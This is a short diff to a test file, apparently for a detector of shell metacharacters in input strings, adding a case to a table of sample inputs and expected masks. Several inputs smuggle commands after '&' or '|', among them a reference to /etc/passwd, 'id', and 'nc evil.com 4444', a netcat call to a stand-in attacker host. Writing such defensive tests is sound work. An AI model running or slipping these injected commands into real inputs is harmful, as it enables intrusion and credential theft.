@@ -144,6 +144,8 @@ describe('residualMask: structure keeps its trigger', () => {
     ['1 and x > 4 ok', M.GT],
     ['1) or not x < 3', M.LT],
     ['1 or `a b` < 3', M.LT],
+    // a contraction glued to a path: one shell word, run after a separator
+    ["ok & setit's/etc/passwd now", M.AMP],
     // a command after a "price": `$5` is the shell's fifth argument, empty
     ['x | $5 id', M.PIPE],
     ['| $5 nc evil.com 4444', M.PIPE | M.DOLLAR],
